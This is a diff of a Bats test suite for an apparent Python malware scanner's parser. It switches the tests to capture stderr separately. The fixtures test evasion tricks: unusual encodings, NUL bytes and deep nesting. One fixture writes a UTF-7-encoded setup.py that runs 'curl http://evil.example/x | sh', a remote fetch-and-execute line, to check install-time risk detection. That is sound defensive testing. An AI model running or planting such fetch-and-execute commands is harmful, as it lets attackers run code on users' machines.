@@ -36,7 +36,7 @@ FIX="$BATS_TEST_DIRNAME/fixtures/parse"
 	printf '# coding: klingon\nimport os\n' >"$BATS_TEST_TMPDIR/c.py"
 	for f in a b c; do
 		file_record "$BATS_TEST_TMPDIR/$f.py" python base64 >"$BATS_TEST_TMPDIR/in"
-		run aura-parse <"$BATS_TEST_TMPDIR/in"
+		run --separate-stderr aura-parse <"$BATS_TEST_TMPDIR/in"
 		assert_success
 		assert_valid_records
 		assert_equal "$(records_of_type ast <<<"$output" | jq -r '.tree.body[0]._type')" Import
@@ -94,14 +94,14 @@ PY
 	for f in a b c; do
 		python3 -c 'import ast, sys; ast.parse(open(sys.argv[1], "rb").read())' "$BATS_TEST_TMPDIR/$f.py"
 		file_record "$BATS_TEST_TMPDIR/$f.py" python base64 >"$BATS_TEST_TMPDIR/in"
-		run aura-parse <"$BATS_TEST_TMPDIR/in"
+		run --separate-stderr aura-parse <"$BATS_TEST_TMPDIR/in"
 		assert_success
 		assert_equal "$(records_of_type hit <<<"$output" | jq -c 'select(.message | test("CPython decodes the file")) | .detection')" '"UndecodableSource"'
 	done
 	# the strong signal is aura-analyze's rule, weighed by context: install time in setup.py
 	mkdir -p "$BATS_TEST_TMPDIR/pkg"
 	printf '# coding: mac_roman\nimport os\nx = 1\n' >"$BATS_TEST_TMPDIR/pkg/setup.py"
-	run aura scan --format json "$BATS_TEST_TMPDIR/pkg/setup.py"
+	run --separate-stderr aura scan --format json "$BATS_TEST_TMPDIR/pkg/setup.py"
 	assert_equal "$(jq -c 'select(.type == "verdict") | [.risk, (.hits[] | select(.detection == "UnanalysedSourceEncoding") | [.severity, .score, .tags[1]])]' <<<"$output" | head -1)" \
 		'["high",["high",100,"install-time"]]'
 	# CPython refuses these files: a BOM with another codec, UTF-16, no such codec
@@ -113,7 +113,7 @@ PY
 		run python3 -c 'import ast, sys; ast.parse(open(sys.argv[1], "rb").read())' "$BATS_TEST_TMPDIR/$f.py"
 		assert_failure
 		file_record "$BATS_TEST_TMPDIR/$f.py" python base64 >"$BATS_TEST_TMPDIR/in"
-		run aura-parse <"$BATS_TEST_TMPDIR/in"
+		run --separate-stderr aura-parse <"$BATS_TEST_TMPDIR/in"
 		assert_success
 		assert_equal "$(records_of_type hit <<<"$output" | jq -c '[.detection, .severity]')" '["UndecodableSource","low"]'
 		assert_equal "$(records_of_type ast <<<"$output" | jq -c '[.tree.body[]._type]')" '["Import"]'
@@ -126,14 +126,14 @@ PY
 import sys
 text = "# coding: utf-7\nimport os\nos.system(\"curl http://evil.example/x | sh\")\n"
 open(sys.argv[1], "wb").write(text.encode("utf-7"))' "$BATS_TEST_TMPDIR/pkg/setup.py"
-	run aura scan --format json "$BATS_TEST_TMPDIR/pkg/setup.py"
+	run --separate-stderr aura scan --format json "$BATS_TEST_TMPDIR/pkg/setup.py"
 	assert_equal "$(jq -r 'select(.type == "verdict") | .risk | IN("high", "critical")' <<<"$output" | head -1)" true
 }
 
 @test "NUL bytes do not hide the code after them" {
 	printf 'x = 1\x00\nimport os\nos.system("id")\n' >"$BATS_TEST_TMPDIR/nul.py"
 	file_record "$BATS_TEST_TMPDIR/nul.py" python base64 >"$BATS_TEST_TMPDIR/in"
-	run aura-parse <"$BATS_TEST_TMPDIR/in"
+	run --separate-stderr aura-parse <"$BATS_TEST_TMPDIR/in"
 	assert_success
 	assert_equal "$(records_of_type ast <<<"$output" | jq -c '[.tree.body[]._type]')" '["Assign","Import","Expr"]'
 	assert_equal "$(records_of_type hit <<<"$output" | jq -c '[.detection, .line]')" '["NulBytes",1]'
@@ -151,7 +151,7 @@ open(sys.argv[1], "wb").write(text.encode("utf-7"))' "$BATS_TEST_TMPDIR/pkg/setu
 
 @test "python 2 print and exec become Print and Exec nodes" {
 	file_record "$FIX/python2.py" >"$BATS_TEST_TMPDIR/in"
-	run aura-parse <"$BATS_TEST_TMPDIR/in"
+	run --separate-stderr aura-parse <"$BATS_TEST_TMPDIR/in"
 	assert_success
 	assert_valid_records
 	body=$(printf '%s\n' "$output" | records_of_type ast | jq -c '[.tree.body[]._type]')
@@ -174,7 +174,7 @@ open(sys.argv[1], "wb").write(text.encode("utf-7"))' "$BATS_TEST_TMPDIR/pkg/setu
 
 @test "python 2 backquotes, <>, ur'', old octal, long ints and except E, e map to documented nodes" {
 	file_record "$FIX/python2.py" >"$BATS_TEST_TMPDIR/in"
-	run aura-parse <"$BATS_TEST_TMPDIR/in"
+	run --separate-stderr aura-parse <"$BATS_TEST_TMPDIR/in"
 	assert_success
 	assert_valid_records
 	refute_output --partial '"type":"hit"'
@@ -202,7 +202,7 @@ open(sys.argv[1], "wb").write(text.encode("utf-7"))' "$BATS_TEST_TMPDIR/pkg/setu
 @test "python 2 backquotes that hold no expression give Error values and a SyntaxError hit" {
 	printf 'a = ``\nb = `c = 1`\nd = `__import__("os")`\n' >"$BATS_TEST_TMPDIR/bq.py"
 	file_record "$BATS_TEST_TMPDIR/bq.py" >"$BATS_TEST_TMPDIR/in"
-	run aura-parse <"$BATS_TEST_TMPDIR/in"
+	run --separate-stderr aura-parse <"$BATS_TEST_TMPDIR/in"
 	assert_success
 	assert_valid_records
 	tree=$(printf '%s\n' "$output" | records_of_type ast | jq -c '.tree.body')
@@ -216,7 +216,7 @@ open(sys.argv[1], "wb").write(text.encode("utf-7"))' "$BATS_TEST_TMPDIR/pkg/setu
 @test "a syntax error yields a tree with Error nodes and a SyntaxError hit" {
 	printf 'import os\nx = = 1 $ 2\ny = 2\n' >"$BATS_TEST_TMPDIR/bad.py"
 	file_record "$BATS_TEST_TMPDIR/bad.py" >"$BATS_TEST_TMPDIR/in"
-	run aura-parse <"$BATS_TEST_TMPDIR/in"
+	run --separate-stderr aura-parse <"$BATS_TEST_TMPDIR/in"
 	assert_success
 	assert_valid_records
 	assert_equal "$(printf '%s\n' "$output" | jq -r .type | tr '\n' ' ')" 'file ast hit '
@@ -263,7 +263,7 @@ for line in open(sys.argv[1]):
 	assert_equal "$(printf '%s\n' "$output" | grep -c '^{"type":"ast"')" 1
 	refute_output --partial '"type":"error"'
 	# a smaller limit cuts earlier
-	run aura-parse --max-depth 10 <"$BATS_TEST_TMPDIR/in"
+	run --separate-stderr aura-parse --max-depth 10 <"$BATS_TEST_TMPDIR/in"
 	assert_success
 	depth=$(printf '%s\n' "$output" | records_of_type ast | jq '[paths | length] | max')
 	[ "$depth" -lt 40 ] || fail "tree is $depth JSON levels deep with --max-depth 10"
@@ -297,7 +297,7 @@ print("t = " + " or ".join(["a"] * n))
 print("if a:\n    pass\n" + "elif a:\n    pass\n" * 2000)
 ' >"$BATS_TEST_TMPDIR/deep.py"
 	file_record "$BATS_TEST_TMPDIR/deep.py" >"$BATS_TEST_TMPDIR/in"
-	run aura-parse <"$BATS_TEST_TMPDIR/in"
+	run --separate-stderr aura-parse <"$BATS_TEST_TMPDIR/in"
 	assert_success
 	assert_valid_deep_records
 	assert_equal "$(record_field ast 'len(r["tree"]["body"])')" 8
@@ -421,7 +421,7 @@ print("import os")' >"$BATS_TEST_TMPDIR/big.py"
 	python3 -c 'print("if a:\n" + " " * 300 + "x = 1\n" + " " * 300 + "if b:\n" + " " * 302 + "y = 2\n" + " " * 300 + "w = 4\nimport os")' \
 		>"$BATS_TEST_TMPDIR/wide.py"
 	file_record "$BATS_TEST_TMPDIR/wide.py" >"$BATS_TEST_TMPDIR/in"
-	run aura-parse <"$BATS_TEST_TMPDIR/in"
+	run --separate-stderr aura-parse <"$BATS_TEST_TMPDIR/in"
 	assert_success
 	assert_equal "$(records_of_type ast <<<"$output" | jq -c '[.tree.body[]._type]')" '["Truncated","Import"]'
 	assert_equal "$(records_of_type hit <<<"$output" | jq -c '[.detection, .line]')" '["DeepNesting",1]'
@@ -441,7 +441,7 @@ print("import os")' >"$BATS_TEST_TMPDIR/big.py"
 		file_record "$BATS_TEST_TMPDIR/$f.py" >"$BATS_TEST_TMPDIR/in"
 		# A generous CPU limit: the sanitizer build (make san-check) is several times slower,
 		# and the quadratic walk this guards against took minutes, not seconds.
-		run aura-parse --timeout-ms 60000 <"$BATS_TEST_TMPDIR/in"
+		run --separate-stderr aura-parse --timeout-ms 60000 <"$BATS_TEST_TMPDIR/in"
 		assert_success
 		refute_output --partial ParseTimeout
 		# cut at --max-depth (1000 levels), the chain's outer links are all there
@@ -472,7 +472,7 @@ for i in range(40000):
 print("import os")' >"$BATS_TEST_TMPDIR/huge.py"
 	printf 'import os\n' >"$BATS_TEST_TMPDIR/next.py"
 	{ file_record "$BATS_TEST_TMPDIR/huge.py"; file_record "$BATS_TEST_TMPDIR/next.py"; } >"$BATS_TEST_TMPDIR/in"
-	run aura-parse --timeout-ms 20 <"$BATS_TEST_TMPDIR/in"
+	run --separate-stderr aura-parse --timeout-ms 20 <"$BATS_TEST_TMPDIR/in"
 	assert_success
 	assert_valid_records
 	refute_output --partial '"type":"error"'
@@ -484,7 +484,7 @@ print("import os")' >"$BATS_TEST_TMPDIR/huge.py"
 	assert_equal "$(records_of_type ast <<<"$output" | tail -1 | jq -c '[.tree.body[]._type]')" '["Import"]'
 	# with a time-out it fits the same file is parsed whole (generous: the sanitizer build
 	# is several times slower than the default 5 s of CPU allows for it)
-	run aura-parse --timeout-ms 120000 <"$BATS_TEST_TMPDIR/in"
+	run --separate-stderr aura-parse --timeout-ms 120000 <"$BATS_TEST_TMPDIR/in"
 	assert_success
 	refute_output --partial '"type":"hit"'
 	assert_equal "$(records_of_type ast <<<"$output" | head -1 | jq -c '[.tree.body[-1]._type, (.tree.body | length)]')" '["Import",40001]'
@@ -503,7 +503,7 @@ print("import os")' >"$BATS_TEST_TMPDIR/huge.py"
 
 @test "a syntactically valid file raises no hit" {
 	file_record "$FIX/statements.py" >"$BATS_TEST_TMPDIR/in"
-	run aura-parse <"$BATS_TEST_TMPDIR/in"
+	run --separate-stderr aura-parse <"$BATS_TEST_TMPDIR/in"
 	assert_success
 	assert_equal "$(printf '%s\n' "$output" | jq -r .type | tr '\n' ' ')" 'file ast '
 }
@@ -512,7 +512,7 @@ print("import os")' >"$BATS_TEST_TMPDIR/huge.py"
 
 @test "the file record is copied byte for byte, then its ast" {
 	file_record "$FIX/imports.py" >"$BATS_TEST_TMPDIR/in"
-	run aura-parse <"$BATS_TEST_TMPDIR/in"
+	run --separate-stderr aura-parse <"$BATS_TEST_TMPDIR/in"
 	assert_success
 	assert_equal "${lines[0]}" "$(cat "$BATS_TEST_TMPDIR/in")"
 	assert_equal "$(jq -c '[.type, .v, .artifact, .file, .path]' <<<"${lines[1]}")" \
@@ -548,11 +548,11 @@ print("import os")' >"$BATS_TEST_TMPDIR/huge.py"
 	printf 'x = "\xe9"  # latin-1 byte, not UTF-8\nimport os\n' >"$BATS_TEST_TMPDIR/b.py"
 	printf 'import base64\nprint(1)\n' >"$BATS_TEST_TMPDIR/c.py"
 	file_record "$BATS_TEST_TMPDIR/c.py" python base64 >"$BATS_TEST_TMPDIR/in"
-	run aura-parse <"$BATS_TEST_TMPDIR/in"
+	run --separate-stderr aura-parse <"$BATS_TEST_TMPDIR/in"
 	assert_success
 	assert_equal "$(records_of_type ast <<<"$output" | jq -c '[.tree.body[]._type]')" '["Import","Expr"]'
 	file_record "$BATS_TEST_TMPDIR/b.py" python base64 >"$BATS_TEST_TMPDIR/in"
-	run aura-parse <"$BATS_TEST_TMPDIR/in"
+	run --separate-stderr aura-parse <"$BATS_TEST_TMPDIR/in"
 	assert_success
 	assert_valid_records
 	assert_equal "$(records_of_type ast <<<"$output" | jq -c '[.tree.body[]._type]')" '["Assign","Import"]'
@@ -569,7 +569,7 @@ print("import os")' >"$BATS_TEST_TMPDIR/huge.py"
 
 @test "a truncated file record is still parsed" {
 	jq -c '.truncated = true | .content = "import os\nx = (1,"' <<<'{"type":"file","v":1,"artifact":"a","id":"a:0","path":"t.py","kind":"python","content_encoding":"utf-8"}' >"$BATS_TEST_TMPDIR/in"
-	run aura-parse <"$BATS_TEST_TMPDIR/in"
+	run --separate-stderr aura-parse <"$BATS_TEST_TMPDIR/in"
 	assert_success
 	assert_valid_records
 	assert_equal "$(records_of_type ast <<<"$output" | jq -r '.tree.body[0]._type')" Import
